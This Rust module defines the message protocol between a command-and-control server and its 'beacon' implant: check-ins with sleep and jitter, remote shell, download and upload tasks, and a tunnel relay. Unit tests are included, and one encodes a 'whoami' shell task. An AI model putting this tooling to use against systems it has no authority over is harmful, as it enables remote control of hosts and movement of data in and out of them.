//! Wire types shared by the server and the beacon.
//!
//! Everything that crosses the check-in channel lives here: task envelopes,
//! task results, tunnel messages, and the download payload used by the chunk
//! pull protocol. Byte fields travel as base64 strings inside JSON.

use serde::{Deserialize, Serialize};

/// Built-in commands and their wire identifiers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum BuiltinCommand {
    Shell,
    Download,
    Upload,
    Sleep,
    Exit,
}

impl BuiltinCommand {
    pub const ALL: [BuiltinCommand; 5] = [
        Self::Shell,
        Self::Download,
        Self::Upload,
        Self::Sleep,
        Self::Exit,
    ];

    pub fn id(self) -> u32 {
        match self {
            Self::Shell => 1,
            Self::Download => 2,
            Self::Upload => 3,
            Self::Sleep => 4,
            Self::Exit => 5,
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            Self::Shell => "shell",
            Self::Download => "download",
            Self::Upload => "upload",
            Self::Sleep => "sleep",
            Self::Exit => "exit",
        }
    }

    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|c| c.name() == name)
    }
}

/// One unit of work as delivered to a beacon.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TaskEnvelope {
    pub task_id: String,
    pub command_id: u32,
    #[serde(with = "b64", default)]
    pub arguments: Vec<u8>,
}

/// Output of one task as reported by a beacon.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TaskResult {
    pub task_id: String,
    #[serde(with = "b64", default)]
    pub output: Vec<u8>,
    /// Set when the beacon-side handler failed. `output` then holds the
    /// textual failure.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

impl TaskResult {
    pub fn ok(task_id: impl Into<String>, output: Vec<u8>) -> Self {
        Self {
            task_id: task_id.into(),
            output,
            error: None,
        }
    }

    pub fn failed(task_id: impl Into<String>, message: impl Into<String>) -> Self {
        let message = message.into();
        Self {
            task_id: task_id.into(),
            output: message.clone().into_bytes(),
            error: Some(message),
        }
    }
}

/// Beacon → server half of a poll.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CheckIn {
    pub beacon_id: String,
    #[serde(default)]
    pub hostname: String,
    #[serde(default)]
    pub results: Vec<TaskResult>,
    #[serde(default)]
    pub tunnel: Vec<TunnelMessage>,
    /// Current poll interval, reported so the server's view stays accurate.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sleep_secs: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub jitter_pct: Option<u8>,
}

/// Server → beacon half of a poll.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CheckInResponse {
    #[serde(default)]
    pub tasks: Vec<TaskEnvelope>,
    #[serde(default)]
    pub tunnel: Vec<TunnelMessage>,
}

/// Dispatch payload of a `download` task.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DownloadPayload {
    pub source: String,
    pub destination: String,
    pub file_size: u64,
    pub chunk_size: u32,
    /// Lowercase hex SHA-256 of the source at registration time.
    #[serde(default)]
    pub file_hash: String,
}

/// Operator-supplied arguments of a `download` task.
#[derive(Debug, Clone, Deserialize)]
pub struct DownloadRequest {
    pub source: String,
    pub destination: String,
    #[serde(default)]
    pub chunk_size: Option<u32>,
}

/// Output of a successful `upload` task.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct UploadOutput {
    pub filename: String,
    #[serde(with = "b64")]
    pub content: Vec<u8>,
}

/// Tunnel control verb.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
pub enum TunnelCommand {
    Start,
    Data,
    Stop,
}

/// Wire unit of the tunnel relay.
///
/// When both `is_fin` and `is_error` are set the command is forced to
/// [`TunnelCommand::Stop`]. Receivers apply [`TunnelMessage::normalized`]
/// before acting on a message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TunnelMessage {
    pub tunnel_id: String,
    pub command: TunnelCommand,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub target: Option<String>,
    #[serde(with = "b64", default, skip_serializing_if = "Vec::is_empty")]
    pub data: Vec<u8>,
    #[serde(default)]
    pub is_fin: bool,
    #[serde(default)]
    pub is_error: bool,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

impl TunnelMessage {
    fn bare(tunnel_id: &str, command: TunnelCommand) -> Self {
        Self {
            tunnel_id: tunnel_id.to_string(),
            command,
            target: None,
            data: Vec::new(),
            is_fin: false,
            is_error: false,
            error: None,
        }
    }

    /// START request (server → beacon).
    pub fn start(tunnel_id: &str, target: &str) -> Self {
        Self {
            target: Some(target.to_string()),
            ..Self::bare(tunnel_id, TunnelCommand::Start)
        }
    }

    /// START acknowledgment (beacon → server). `error` marks a failed dial.
    pub fn start_ack(tunnel_id: &str, error: Option<String>) -> Self {
        Self {
            is_error: error.is_some(),
            error,
            ..Self::bare(tunnel_id, TunnelCommand::Start)
        }
    }

    pub fn data(tunnel_id: &str, data: Vec<u8>, is_fin: bool) -> Self {
        Self {
            data,
            is_fin,
            ..Self::bare(tunnel_id, TunnelCommand::Data)
        }
    }

    pub fn stop(tunnel_id: &str) -> Self {
        Self {
            is_fin: true,
            ..Self::bare(tunnel_id, TunnelCommand::Stop)
        }
    }

    /// Terminal error report. Always a STOP.
    pub fn failure(tunnel_id: &str, error: impl Into<String>) -> Self {
        Self {
            is_fin: true,
            is_error: true,
            error: Some(error.into()),
            ..Self::bare(tunnel_id, TunnelCommand::Stop)
        }
    }

    /// Apply the fin + error tie-break.
    #[must_use]
    pub fn normalized(mut self) -> Self {
        if self.is_fin && self.is_error {
            self.command = TunnelCommand::Stop;
        }
        self
    }
}

/// Serde adapter for `Vec<u8>` fields encoded as standard base64.
pub mod b64 {
    use base64::Engine;
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(bytes: &[u8], serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&base64::engine::general_purpose::STANDARD.encode(bytes))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<u8>, D::Error> {
        let s = String::deserialize(deserializer)?;
        base64::engine::general_purpose::STANDARD
            .decode(s.as_bytes())
            .map_err(serde::de::Error::custom)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn fin_and_error_force_stop() {
        let msg: TunnelMessage = serde_json::from_value(json!({
            "tunnel_id": "t1",
            "command": "DATA",
            "is_fin": true,
            "is_error": true,
            "error": "connection reset",
        }))
        .unwrap();
        assert_eq!(msg.command, TunnelCommand::Data);
        let msg = msg.normalized();
        assert_eq!(msg.command, TunnelCommand::Stop);
        assert_eq!(msg.error.as_deref(), Some("connection reset"));
    }

    #[test]
    fn fin_alone_keeps_data_command() {
        let msg = TunnelMessage::data("t1", vec![], true).normalized();
        assert_eq!(msg.command, TunnelCommand::Data);
        assert!(msg.is_fin);
    }

    #[test]
    fn envelope_arguments_travel_as_base64() {
        let env = TaskEnvelope {
            task_id: "a".into(),
            command_id: 1,
            arguments: b"whoami".to_vec(),
        };
        let v = serde_json::to_value(&env).unwrap();
        assert_eq!(v["arguments"], "d2hvYW1p");
        let back: TaskEnvelope = serde_json::from_value(v).unwrap();
        assert_eq!(back, env);
    }

    #[test]
    fn builtin_lookup_by_name() {
        assert_eq!(BuiltinCommand::from_name("sleep"), Some(BuiltinCommand::Sleep));
        assert_eq!(BuiltinCommand::from_name("portscan"), None);
        assert_eq!(BuiltinCommand::Shell.id(), 1);
    }

    #[test]
    fn failed_result_carries_text_output() {
        let r = TaskResult::failed("t", "boom");
        assert_eq!(r.output, b"boom");
        assert_eq!(r.error.as_deref(), Some("boom"));
    }
}
